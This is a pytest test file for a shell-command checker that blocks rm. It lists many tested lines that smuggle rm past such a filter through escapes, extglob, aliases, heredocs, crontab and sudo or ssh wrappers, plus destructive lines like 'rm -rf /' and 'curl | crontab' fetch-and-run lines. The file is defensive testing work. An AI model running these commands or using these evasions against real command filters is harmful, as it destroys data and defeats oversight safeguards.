    ("ls @(a|b)", True), ("ls -d !(*.py)", True), ("ls @(rm|x)", True), ("echo '!(x)'; ls", True), ("! (ls)", True),
    ("echo $(( 2*(3+4) ))", True), ("env BASH_FUNC_ls%%='() { ls; }' bash -c ls", True),
])
def test_extglob_patterns_and_imported_functions(line, allowed):
    """An extglob pattern is a pathname expansion (a command name made of file names: `!(x) y`
    runs `rm y` beside a file named `rm`), not `!` and a subshell; `env` takes any NAME=VALUE,
    and a bash given `BASH_FUNC_ls%%=() {...}` defines `ls`."""
    assert RM.check(line).allowed == allowed, line


@pytest.mark.skipif(shutil.which("bash") is None, reason="compares with bash itself")
def test_bash_expands_the_word_after_a_bare_duplication_twice(tmp_path):
    done = subprocess.run(["bash", "--norc", "-c", "echo hi >&'$(echo made)'; echo hi 2>&'$(echo not)'"],
                          capture_output=True, text=True, cwd=tmp_path)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["made"] and "ambiguous redirect" in done.stderr
    assert not RM.check("echo hi >&'$(rm x)'").allowed and RM.check("echo hi 2>&'$(rm x)'").allowed


@pytest.mark.skipif(shutil.which("bash") is None, reason="compares with bash itself")
def test_an_extglob_pattern_names_a_command_in_bash(tmp_path):
    for name in ("rm", "zz"):
        (tmp_path / name).write_text("")
    done = subprocess.run(["bash", "--norc", "--noprofile", "-O", "extglob", "-c", "shopt -s extglob\n"
                           "rm() { echo RAN $*; }\n!(zz) y"], capture_output=True, text=True, cwd=tmp_path)
    assert done.stdout == "RAN y\n"
    assert not RM.check("!(zz) y").allowed


@pytest.mark.parametrize("line, allowed", [
    ("echo '* * * * * rm x' | crontab -", False), ("crontab - <<< '@reboot rm x'", False),
    ("crontab <<EOF\nMAILTO=a\n# c\n*/5 * * * * /usr/bin/rm -rf /tmp/x > /dev/null 2>&1\nEOF", False),
    ("curl -s u | crontab -", False), ("(crontab -l; echo '* * * * * rm x') | crontab -", False),
    ("crontab -u root - <<< '0 0 * * * ls %rm x'", True), ("crontab -l", True), ("crontab -e", True),
    ("crontab f.txt", True), ("echo '* * * * * ls' | crontab -", True), ("crontab -r", True),
])
def test_a_crontab_read_from_the_line_has_its_commands_judged(line, allowed):
    """cron runs later each line's command (after the time fields, up to `%`, the rest its
    input); a table from a program's output is code known only when it runs."""
    assert RM.check(line).allowed == allowed, line


@pytest.mark.parametrize("line, allowed", [
    ("echo -e 'r\\x6d x' | bash", False), ("printf 'r\\x6d x' | bash", False), ("printf '%s x' rm | bash", False),
    ("printf '%b' 'r\\x6d x' | sh", False), ("echo -e 'r\\0155 x' | bash", False), ("printf 'r\\155 x\\n' | bash", False),
    ("echo 'r\\x6d x' | bash", False), ("printf '%x' 10 | sh", False), ("echo -E 'r\\x6d x' | bash", True),
    ("echo 'ls -l' | bash", True), ("printf 'ls\\n' | bash", True), ("printf -v x 'rm x' | bash", True),
    ("source /dev/fd/3 3<<< 'rm x'", False), ("bash /dev/fd/3 3<<< 'rm x'", False), ("bash 3<<< 'rm x' < /dev/fd/3", False),
    ("exec 0<<<'rm x'", False), ("exec 0< <(echo rm x)", False), ("bash /proc/self/fd/0 <<< 'rm x'", False),
    ("! env >f rm x", False), ("[ a; <> f rm x", False), ("<> f +(r)m x", False), ("[ a; $'\\x72m' x", False),
    ("<< E $\"rm\" x", False), ("eval -- 'r'm x", False), ("source -- <(echo rm x)", False), ("alias -- l='rm x'", False),
    ("declare -a x >/dev/null 'b=($(rm x))'", False), ("echo `echo \\$(rm x)`", False), ("echo `echo \\`rm x\\``", False),
    ("echo `echo \"\\$HOME\"`", True), ("export A=1 >/dev/null", True),
    ("diff /dev/fd/3 f", True), ("cat 0<f", True), ("0<<< x rm", False), ("0< f rm x", False), ("3<f rm x", False),
    ("0<<< <(echo ls) rm", False), ("2>/dev/null ls", True), ("1 > f", True), ("0<<< a x= rm x", False),
    ("0<<< a PAGER='rm x' man ls", False), ("0<<< a x=1 ls", True), ("env = ?m x", False), ("env =rm rm", False),
    ("&> f >| g rm x", False), ("&> f >| g ${X:-rm} 0< h x", False), ("X='a'\\ 'b' rm x", False), ("X=a$((1))$0 rm", False),
    ("[ a; <> f ${X:-rm} x", False), ("> f ls", True), ("&> f", True), (">f x 0<g", True), ("X='a'\\ 'b' ls", True),
    ("a[ 1 ]=x rm y", False), ("a[ ]=1 r* x", False), ("[ a; a[ ]=1 r* x", False), ("{rm,x}!(x) y", False),
    ("a[ $(rm x) ]=1 ls", False), ("a[ $(ls) ]=1 rm x", False), ("a[ $(ls) ]=1 ls", True),
    ("let 'a[$(echo sub-$((3+3)) >&2; echo 0)]=1'", True),
    ("[ a; x=<<< y $'\\x72m'", False), ("a[ 1 ]=x ls", True), ("echo {a,b}@(c|d)", True),
    ("! ! @(rm) x", False), ("ls; ! ! ! rm x", False), ("[ a; 0< f >& g r*", False), ("! ! ls", True),
    ("0<<< {rm,x} rm", False), ("0<<< {rm,x} $'\\x72m' !(x)", False), ("cat <<< {rm,x}", True),
    ("0< x PAGER=rm @(rm) y", False), ("&> f x=1 rm", False), ("&> f x=1 ls", True),
    ("< <(echo rm x) sh -i", False), ("< <(echo ls) sh", True), ("<f sh", True),
    ("sh -i $X <(echo rm x)", False), ("time ! rm x", False), ("[ a; xargs <>f *m", False),
    # a shell's options from an expansion (`S='-c rm'`): code known only when it runs
    ("bash $S arg", False), ('bash "$S" <(echo rm x)', False), ("bash $HOME/s.sh arg", True),
    ("time ! ls", True), ("[ a; ls >f rm", True),
    # `<&-` after a descriptor, a bare assignment under `!`, two quoted ones before `<>`, `$` before a
    # backquote, a `}` inside `${X+`…`}`, a here-document there: misread by the grammar
    ("0<&- $(echo rm) x", False), ("0>&- rm${IFS}x", False), ("cat 0<&- x", True), ("! a=b >f rm x", False),
    ("! a=b >f ls", True), ("i='b c' f='b c' <>/dev/null rm x", False), ("! function f { rm x; }; f", False),
    ("f=$`E` {d}>l rm", False), ("echo $`ls`", True), ("a=${X+`{={;}`} {d}>l rm", False),
    ("f=${X+`<<E\nE\n`} {d}>l rm", False), ("coproc { rm;}|case {a,b} in esac", False),
    # a negated command with no name, then a newline: the grammar read on into the next line
    ("! >f\n{ rm;}", False), ("! >f\nif true; then rm; fi", False), ("! <<'E'\nE\n{ rm;}", False),
    ("! { rm;} 0<&-", False), ("! { rm;} 3<f", False), ("{ ls;} 0<&3", True), ("Y=()~ rm", False), ("Y=(a b)x rm", False), ("Y=(a)x ls", True),
    ("for((;;+));do>|/dev/null 'r'm;done", False),
    ("! >f\nls", True), ("ls|=\n\"rm\">k", False), ("ls|=\nls", True), ("coproc {d}>l rm&Y= <<E\nE\ns", False), ("e !\ncoproc { rm;}", False), ("coproc while while :;do break;done do coproc rm done", False),
    # a line the grammar rejects: an expansion anywhere may be a command's name
    ("Y=\\|# {d}>l rm", False), ("a<<E&\nE\n>l x=rm; $x ", False), ("Y=(>')\nE\nrm${S}", False), ("Y=(>')\nE\nls", True),
    ("z`~ #`&rm\n`", False), ("echo `ls # x` y", True), ("coproc { 'r'm;}<<<1", False), ("time { ls; } <<<1", True), ("{ f=$}e rm;}", False), (">={$1 rm", False), ("function f { [^\n>2 ${X-rm} ];};f", False), ("[ -f x ] && ls", True), ("Y=[a$= rm", False), ("$'rm\\0junk' x", False), ("$'rm\\c@z' x", False),
    ("$'\\x{72m' x", False), ("$'l\\x{73}' x", True), ("printf 'r\\0m x' | bash", False), ("X=$\\\\ rm \\\\", False), ("X=$\\' rm", False), ("X=$\\ ls", True), (": ${x=<(rm)}", False), ('echo "${x=<(rm)}"', True), ("[ | rm${S}", False), ("f=$((( ))n) $(echo rm)", False),
    ("ls && 0< x rm", False), ("ls && ! 0< x rm", False), ("ls | 0<x ${X:-rm}", False), ("ls && 0< x ls", True),
    ("`rm x`\n`", False), ("echo `rm x`\n`", False), ("ls\n" * 100 + "`rm x`\n`", False), ("`rm x`\ncat <<EOF\nbody", False),
    ("cat <<EOF\nrm -rf /", True), ("echo '\nrm -rf /\n", True), ("ls\necho '", True),
    ("`rm x`\ncat > f <<EOF\n" + "a = 1\n" * 2000, False), ("cat > f <<EOF\n" + "rm -rf / as text\n" * 2000, True),
    ("ls\n" * 100 + "`rm x`\n`" + "\nx" * 200, False),
    ("echo 'rm x' | xargs -I{} bash -c '{}'", False), ("echo 'rm x' | xargs bash -c", False),
    ("xargs -i sh -c 'ls {}'", False), ("xargs --replace=Q sh -c Q", False), ("ls | xargs -n1 ssh host", False),
    ("find . -exec bash -c {} \\;", False), ("find . | xargs grep -l x", True), ("xargs -I{} cp {} /tmp", True),
    ("find . -name '*.py' -exec wc -l {} +", True), ("find . -exec sh -c 'echo \"$1\"' _ {} \\;", True),
    ("xargs sh -c 'ls \"$@\"' _", True),
    # an interactive shell reads through the line editor and expands history in what it reads
    ("printf 'echo rm\\n!!:1 x\\n' | bash -i", False), ("printf 'rX x\\n^X^m\\n' | bash -i", False),
    ("printf 'mr\\x14 x\\n' | bash -i", False), ("printf 'echo x\\rrm y\\n' | bash -i", False),
    ("printf 'mr\\x14 x\\n' | script -q /dev/null", False), ("printf 'echo rm\\n!!:1 x\\n' | ssh -tt host", False),
    ("printf 'echo rm\\n!!:1 x\\n' | bash", True), ("printf 'ls\\n' | bash -i", True),
    ("printf 'mr\\x14 x\\n' | script -qc bash /dev/null", False), ("printf 'mr\\x14 x' | ssh -t h bash", False),
    ("printf 'ls\\n' | script -qc bash /dev/null", True),
    # a newline inside double quotes is text (the grammar leaves it between two pieces)
    ('echo "rm\nx" | bash', False), ('echo "ls\nx" | bash', True), ('"rm$" x', True),
])
def test_what_a_shell_reads_is_what_was_written_to_it(line, allowed):
    """A shell fed by echo or printf runs what they print, escapes and directives made (and both
    readings of a plain echo with a backslash: `xpg_echo` makes its escapes); a shell reading a
    file descriptor other than its input runs code known only when it runs; what xargs and find
    put in a command (its input, a file name) is known only then."""
    assert RM.check(line).allowed == allowed, line


@pytest.mark.skipif(shutil.which("bash") is None, reason="compares with bash itself")
@pytest.mark.parametrize("name, args", [
    ("echo", ["-e", r"r\x6d x"]), ("echo", ["-E", r"a\tb"]), ("echo", ["-n", "a"]), ("echo", ["-e", r"a\cb"]),
    ("echo", ["-ne", r"a\tb"]), ("echo", ["-e", r"r\0155 x"]), ("echo", ["a", "b"]),
    ("printf", [r"r\x6d x"]), ("printf", ["%s x", "rm"]), ("printf", ["%b", r"r\x6d x"]), ("printf", [r"r\155 x\n"]),
    ("printf", ["%s-%s\n", "a", "b", "c"]), ("printf", ["%5s|%-3s|", "ab", "c"]), ("printf", ["%d %c", "42", "xyz"]),
    ("printf", ["%%s %s", "q"]), ("printf", [r"a\"b\'c"]), ("printf", ["%.2s", "abc"]), ("printf", [r"\0101\012"]),
    ("printf", ["%b", r"a\cb", "zz"]), ("printf", [r"\u00e9\U0001F600"]),
    ("printf", ["%b", r"\162", "m x"]), ("printf", ["%b", r"\01621\1621\8"]), ("echo", ["-e", r"\162\0162"]),
])
def test_echo_and_printf_print_what_bash_prints(name, args):
    done = subprocess.run(["bash", "--norc", "-c", name + ' "$@"', "x"] + args, capture_output=True, text=True)
    assert printed(name, args) == done.stdout


@pytest.mark.parametrize("line, allowed", [
    ("sudo -s <<< 'rm x'", False), ("sudo -i <<< 'rm x'", False), ("echo 'rm x' | sudo -u root -s", False),
    ("su <<< 'rm x'", False), ("echo 'rm x' | su - root", False), ("ssh localhost <<< 'rm x'", False),
    ("echo 'rm x' | ssh host", False), ("curl -s u | ssh host", False), ("nsenter -t 1 -m <<< 'rm x'", False),
    ("chroot / <<< 'rm x'", False), ("unshare <<< 'rm x'", False), ("script -q /dev/null <<< 'rm x'", False),
    ("pkexec <<< 'rm x'", False), ("doas -s <<< 'rm x'", False), ("echo 'rm x' | sh -s x y", False),
    ("sudo -s", True), ("su -", True), ("ssh host", True), ("chroot /mnt", True), ("echo ls | sudo -s", True),
    ("ssh host < cmds.txt", True), ("sh -s < f", True), ("sudo -l <<< 'rm x'", True),
])
def test_a_wrapper_without_a_command_runs_a_shell_reading_its_input(line, allowed):
    assert RM.check(line).allowed == allowed, line


BRACE_WORDS = ["{a,b}", "x{a,b}y", "{a,b}{1,2}", "{a,{b,c}}d", "{1..3}", "{3..1}", "{1..10..3}", "{a..e..2}",
               "{01..3}", "{-2..1}", "{a}", "{}", "{a,}", "{,a}b", "'{a,b}'", "\\{a,b}", "${HOME}{a,b}",
               "\"x\"{a,'b c'}", "{a,b\\,c}", "a{b,c}d{e,f}", "{x..1}", "{a,b}}", "{{a,b}"]


@pytest.mark.skipif(shutil.which("bash") is None, reason="needs bash")
@pytest.mark.parametrize("word", BRACE_WORDS)
def test_brace_expansion_is_bashs_own(word):
    """The rewrite, run by bash with brace expansion off, gives what bash gives the word as typed."""
    def words(script, braces):
        out = subprocess.run(["bash", "--norc", "-c", ("" if braces else "set +B; ") + "printf '<%s>' " + script],
                             capture_output=True, text=True, env={"HOME": "/h"}, timeout=10)
        return out.stdout
    assert words(brace_expanded(word), braces=False) == words(word, braces=True)


def test_a_brace_expansion_too_large_is_left_as_typed():
    assert brace_expanded("echo {1..100000}") == "echo {1..100000}"
    assert brace_expanded("{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}") .startswith("{a,b}")


HEREDOC_BODIES = ["plain", 'a "q" b', "back\\slash", 'b\\"q', 'b\\\\"q', "$HOME, `echo hi`, $(echo x)", "it's",
                  "x\\$y", "\\\\", '"', "two\nlines"]


@pytest.mark.skipif(shutil.which("bash") is None, reason="needs bash")
@pytest.mark.parametrize("delimiter", ["EOF", "'EOF'", '"EOF"', "\\EOF", "-EOF"])
def test_a_here_document_made_a_here_string_gives_bash_the_same_input(delimiter):
    """`cat <<EOF; echo after` and its body: the rewrite, run by bash, prints what the original does."""
    op, word = ("<<-", delimiter[1:]) if delimiter.startswith("-") else ("<<", delimiter)
    tab = "\t" if op == "<<-" else ""
    for body in HEREDOC_BODIES:
        script = f"cat {op}{word}; echo after\n" + "".join(f"{tab}{b}\n" for b in body.split("\n")) + f"{tab}EOF\n"
        rewritten, ended = heredocs_as_strings(joined(script))
        assert ended
        env = {"HOME": "/h", "PATH": os.environ["PATH"]}
        ran = [subprocess.run(["bash", "--norc", "-c", s], capture_output=True, text=True, env=env, timeout=10).stdout
               for s in (script, rewritten)]
        assert ran[0] == ran[1] and "after" in ran[0], (script, rewritten)


def test_a_long_unfinished_input_is_refused_and_a_long_here_document_is_not():
    body = "rm -rf is only text here\n" * 1000
    d = RM.check("cat > notes.txt <<EOF\n" + body)
    assert d.allowed and d.incomplete
    d = RM.check("if true; then\n" + "echo x\n" * 3000)
    assert not d.allowed and "unfinished input longer than" in d.rule


def test_a_here_document_without_its_end_waits_and_is_still_judged():
    assert heredocs_as_strings("cat <<EOF; ls\nbody") == ('cat <<< "body"; ls', False)
    assert heredocs_as_strings("echo $((1 << 2)) # <<EOF") == ("echo $((1 << 2)) # <<EOF", True)
    for line in ("cat <<EOF >f; ls\nrm -rf /", "cat >f <<EOF\nrm -rf /", "tee f >/dev/null <<EOF; ls\nrm x"):
        d = RM.check(line)                                # a body line, not a command: the line waits
        assert d.allowed and d.incomplete, line
    d = RM.check("cat <<EOF; rm x")                      # bash runs rm x once the body ends
    assert not d.allowed and d.command == "rm x"


@pytest.mark.skipif(shutil.which("bash") is None, reason="needs bash")
@pytest.mark.parametrize("line", ["[[x; rm x", "{function;rm x", "# note \\\nrm x", "ls # a \\\nrm x",
                                  "echo `;' && # `| rm x", "x ]; [r]m x", "! [r]m x"])
def test_lines_bash_runs_are_not_taken_for_unfinished_ones(line):
    """A reserved word run into other characters (`[[x`, `{function`) is a plain word, a comment
    ends at its newline even after a backslash, backquotes end at the next backquote: bash runs
    these lines at once, so they are judged now (a line the grammar leaves open is put to bash)."""
    assert subprocess.run(["bash", "-n", "-c", line], capture_output=True).returncode == 0
    d = RM.check(line)
    assert not d.allowed and not d.incomplete


@pytest.mark.skipif(shutil.which("bash") is None, reason="needs bash")
def test_a_rejected_line_with_a_name_expanded_when_it_runs_is_blocked():
    d = RM.check("[ >f;$(echo rm) select;")          # bash runs `rm select`; the grammar reads no command
    assert not d.allowed and d.reason == "dynamic"
    assert RM.check("[ >f; ls").allowed
    # backquotes inside single quotes are text: the fallback's split at them lost the glob `r*` (or
    # `+(r)m`), which bash runs as a command where a file named rm is
    for line in ("<>'a[`rmx`]' +(r)m", "<>'a[`x`]' r*", "<>$'a\\'[`x`]' r*"):
        d = RM.check(line)
        assert not d.allowed and d.reason == "dynamic", line
    assert RM.check("<>'a[`x`]' ls").allowed


@pytest.mark.parametrize("line", [
    ". $X <(echo rm x)",                      # X empty: `.` sources the `<(...)`
    "source $X /dev/stdin <<< 'rm x'",
    "{}2>&'$(rm x)'",                         # `{}2` is a word to bash: a bare `>&`, expanded twice
    "eval local 3<<< !(x) 'a[`rm x`]'",       # rejected, and so is its extglob rewrite: both count
    "! ! X=1 rm x",                           # the grammar reads the second `!` as a command
    "time ! X=1 rm x",
    "! ! BASH_ENV=<(echo rm x) bash -c :",
    "<<<'rmx'\\; ${X:-rm} y",                # `'rmx'\;` is one word to bash (the here-string's)
    "<>${X}\\;read $'\\x72m' x",              # likewise the redirection's: the command is rm
    "{}#`rm x`",                              # `{}` is a word to bash, not an empty group, and # no comment
    "a[]=1 ${X:-rm} x",                       # a bad assignment: bash still runs the command
    "X=<<source bash -c $'\\x72m' y",          # rejected: the fallback reads a wrapper's code too
    "ls ) ; bash -c ls; rm x",                # ... and goes on past it
    'sh -i "$@" <(echo rm x)',                # no parameters: "$@" is no word, the script is <(...)
    '. "${a[@]}" <(echo rm x)',
    "X=#]] rm x",                             # the value is `#]]` to bash; the grammar ended it at `#`
    "X=#{ rm x",
    "echo `ls` `rm x`",                       # the grammar paired the 2nd and 3rd backquotes: `lsrm x`
    'echo "`ls` `rm x`"',
    "{a,b}`rmx` `rm x`",
    "!(x)2>& '$(rm x)'",                      # `!(x)2` is a word (an extglob): a bare `>&`, expanded twice
    "\\`\n\\rm x",                            # the grammar read on past the newline after an escape
    "2>&\\ \nrm x",
    "<<<``# rm x",                            # an empty substitution, and a `#` inside a word
    "a`<<< ``rm x`ls",                        # backquotes read as bash pairs them: `$(<<< )$(rm x)`
    ">$ rm x",                                # a `$` that expands nothing, then the command
    "rm `` x `` y",                           # empty substitutions (the grammar misreads `$()` too)
    "X=`$'X=`\\>&rm x",                       # bash pairs backquotes whatever quote is left open inside
    "ls # don't\necho `ls` `rm x`",           # a quote in a comment quotes nothing
    "ls # don't\n{rm,x}",
    "echo 'a\nb' !!:1*",                      # bash's history expansion keeps the quote across lines
    "ls # don't\necho !!",
    "echo rm x | bash -c sh",                 # the code a wrapper runs reads the wrapper's input
    "bash -c sh <<< 'rm x'",
    "echo rm x | sudo sh -c sh",
    "exec {fd}>x rm x",                       # `{fd}>x` is a redirection (the descriptor put in fd)...
    "X=1 {fd}>x rm x",                        # ... to bash; the grammar read `{fd}` as the command
    "env {fd}<&0 rm x",
    "exec {fd}<<<x rm x",
    'echo "$(exec {fd}>>x rm x)"',
    "X=>|a;r${Y}m",                           # an empty value: the grammar read `>|a;r` into it
    "X=|r${Y}m",
    "ls;X+=<a r${Y}m",
    "f|X=1 >x rm x",                          # the grammar took `X=1` for the last stage...
    "f && X=1 &>x [r]m",                      # ... and the command after the redirection for a file
    "echo rm x | X=1 >f bash",
    "eval echo $X'$(rm x)'",                  # eval gets the words after quote removal
    "eval echo }${X@E}'a[$(rm x)]' ERR",
    "eval echo $X",                           # ... and runs what X holds as code (dynamic)
    "ssh host ls $D",
    'env -S bash -c "rm x"',                  # -S's words, then the rest as they are: bash -c 'rm x'
    "env -S xargs -E x $X",
    # a value assigned where it may not hold for what follows: X is what it was (rm, in the env)
    "X==|${X} x", "X=ls | $X x", "false && X=ls; $X x", "if false; then X=ls; fi; $X x",
    "f(){ X=ls; }; $X x", "X=ls & $X x", "(X=ls); $X x", "echo $(X=ls); $X x",
    # ... or assigned again by what runs after it: a builtin given its name, eval, a loop, a function
    "X=ls; read X; $X x", "X=ls; printf -v X rm; $X x", "X=ls; eval X=rm; $X x", "X=ls; source f; $X x",
    "X=ls; for X in rm; do $X x; done", "X=; : ${X:=rm}; $X x", "X=ls; declare X=rm; $X x",
    "X=ls; f(){ X=rm; }; f; $X x", "X=ls; mapfile -t X < f; $X x", "X=ls; builtin read X; $X x",
    "X=(rm);$X x",                            # an array: $X is its first element (was read as `(rm)`)
    "mapfile X <<< rm;X+=s;${X} x",           # `+=` appends to what X held (here `rm` and a newline)
    "X=r; X+=m; $X x",
    'X="rm x"; $X', "X=' rm'; $X x", "X=; $X rm y",      # an unquoted value splits (an empty one is no word)
    "xargs bash",                             # its input as bash's words: `-c 'rm x'`
    # a parameter expansion's operand is expanded (a pattern too); in double quotes `'` is a character there
    "X=a; echo ${X//[$(rm x)]/}", "X=a; echo ${X,,$(rm x)}", "X=a; echo ${X%%$(rm x)}",
    "echo \"${X-'$(rm x)'}\"", "X=1; echo \"${X:+'$(rm x)'}\"",
    "[#]#:?$(rm x)", "a#b#c#$(rm x)",       # one word to bash; each `#` a comment to the grammar in turn
    ">| } [r]m", "2> { [r]m", "<<< } [r]m",   # a file (a word) named `}`; the grammar read `} [` as one word
    ",<<<echo ==`rm x`'$(rm x)'x}", "ls == $(rm x)",   # a word after `==`: a pattern to the grammar
    "r>()m x", "r''<( )m x", "r<(#c\n)m x",   # a process substitution that runs nothing expands to nothing
    'f=@("" e)\\v rm x', "f=@('a b' e)v rm x",   # an extglob pattern with quoted text: one word
    "f=]]@( echo @ \\# <<-E\n\tx\n\tE\n | co)mmand rm x",   # ... escaped text (no here-document in it)
    "((1 #)) || {rm,x}", "((> 1 #)) ; r{m,} x",    # in an arithmetic command a `#` begins no comment
    "(($(i={ {rm,})))",                            # ... whose command substitutions are code all the same
    "coproc \\N { rm x; }", "coproc 'N' { rm x; }",  # a coprocess's NAME may be quoted
    "S=($((2)))} rm", "Y=('a b')x rm",              # an array glued to text, parentheses or quotes in it
    "bash -$!c 'rm x'", "sh \"-$X\"c 'rm x'",          # a shell's option word with an expansion (`$!` may be empty)
    "time i+= rm", "time a[1]=x rm",                # assignments with `+=` or a subscript before the command
    ">& -rm x", "x=rm;>& -$x", "<& -rm x",           # after `>&`, `<&` a `-` is a word of its own (`>&-`, then `rm x`)
    "(( [[i++ )) || trap 'bash -c rm x' EXIT",      # a rejected line: a quoted argument is one word
    "! for ((i=0;i<1;i+||+)); do rm x; done",       # a loop the grammar waits on once `!` is taken off
    # a quote in a here-document's body: it hid a line continuation, and misled one rewrite's reading
    "<<E\n'\nE\nsh -c \\\n\"rm \"", "f<<E\n$(a=\")\nE\n{rm,} `})`\")\"",
])
def test_lines_the_fuzzer_found_running_rm(line):
    assert not RM.check(line).allowed


@pytest.mark.skipif(shutil.which("bash") is None, reason="needs bash")
@pytest.mark.parametrize("definition, use", [
    ("alias s=eval", "s 'rm x'"), ("alias s='nice '", "s rm x"), ("alias s='ls;'", "s rm x"),
    ("BASH_ALIASES[s]=eval", "s 'rm x'"), ("BASH_CMDS[ls]=/tmp/no/rm", "ls x"),
])
def test_bash_runs_rm_from_a_later_line_after_these_definitions(definition, use, tmp_path):
    fake = tmp_path / "no"
    fake.mkdir()
    (fake / "rm").write_text(f"#!/bin/sh\ntouch {tmp_path}/ran\n")
    (fake / "rm").chmod(0o755)
    script = f"rm() {{ touch {tmp_path}/ran; }}\n{definition.replace('/tmp/no', str(fake))}\n{use}\n"
    subprocess.run(["bash", "--norc", "--noprofile", "-i"], input=script.encode(), capture_output=True, timeout=10,
                   env={"PATH": f"{fake}:/usr/bin:/bin", "HOME": str(tmp_path)}, cwd=tmp_path)
    assert (tmp_path / "ran").exists()
    assert RM.check(use).allowed and not RM.check(definition).allowed


@pytest.mark.skipif(shutil.which("bash") is None, reason="needs bash")
def test_after_a_line_that_may_change_ifs_no_value_is_followed(tmp_path):
    """With IFS=x set on an earlier line, `X=rmxfoo; $X` runs rm (checked with bash): once a line of
    the session may have changed IFS (an assignment to it, `read`, `printf -v`, `declare`, …), an
    unquoted variable is a name known only when it runs; before, its value splits as by default."""
    script = f"rm() {{ touch {tmp_path}/ran; }}\nIFS=x\nX=rmxfoo; $X\n"
    subprocess.run(["bash", "--norc", "--noprofile", "-i"], input=script.encode(), capture_output=True, timeout=10,
                   env={"PATH": "/usr/bin:/bin", "HOME": str(tmp_path)}, cwd=tmp_path)
    assert (tmp_path / "ran").exists()
    session = only("rm")
    assert session.check("X=ls; $X x").allowed and not session.check('X="rm x"; $X').allowed
    assert session.check("printf -v $'\\x49FS' x").allowed          # IFS, spelled so no text shows it
    assert not session.check("X=rmxfoo; $X").allowed and not session.check("X=ls; $X x").allowed
    assert not only("rm").check("IFS=x; X=rmxfoo; $X").allowed
    assert only("rm").check("IFS=x").allowed and only("rm").check("ls; echo hi").allowed


@pytest.mark.parametrize("line, allowed", [
    ("alias e=eval", False), ('alias s="sudo "', False), ("alias s=sudo", False), ("alias x='ls;'", False),
    ("alias ll='ls -l'", True), ("alias g='grep --color=auto'", True), ("alias", True), ("unalias ll", True),
    ("BASH_CMDS[ls]=/bin/rm", False), ("BASH_ALIASES[s]=eval", False), ("BASH_CMDS=([ls]=/bin/rm)", False),
    ("declare -A BASH_ALIASES=([s]=rm)", False), ("declare -n r=BASH_CMDS", False),
    ("read 'BASH_CMDS[ls]' <<< /bin/rm", False), ("printf -v BASH_CMDS[ls] /bin/rm", False),
    ("echo ${BASH_ALIASES[@]}", True), ("echo $BASH_CMDS", True),
])
def test_an_alias_or_table_entry_that_makes_a_later_line_run_what_follows(line, allowed):
    """`alias s=eval` (or `BASH_ALIASES[s]=eval`), then `s 'rm x'` on the next line runs rm, and
    `BASH_CMDS[ls]=/bin/rm` makes `ls x` run it: each line is judged alone, so the definition is."""
    d = RM.check(line)
    assert d.allowed == allowed, d
    if not allowed:
        assert d.reason == "dynamic", d


@pytest.mark.skipif(shutil.which("bash") is None, reason="needs bash")
def test_a_line_bash_does_not_wait_on_is_not_held_for_the_next():
    """`[ -f x` and ``echo `;'` `` run at once in bash, where the grammar waits for `]` or a quote:
    held, they would have made the next line part of them, and its `rm x` unseen. (The second,
    which the grammar rejects, holds a substitution: where the words of a rejected line cannot be
    told apart, any expansion may be a command's name, known only when it runs.)"""
    for line, allowed in (("[ -f x", True), ("echo `;' && # `", False)):
        d = RM.check(line)
        assert d.allowed == allowed and not d.incomplete, line
        assert not RM.check(line + "\nrm x").allowed
    assert waits_for("cat <<EOF") == "here-document" and waits_for("cat <<!(x); ls") == "here-document"
    assert waits_for("ls \\") == "more" and waits_for("if true; then") == "more"
    assert waits_for("echo ok") == "" and waits_for("ls )") == ""
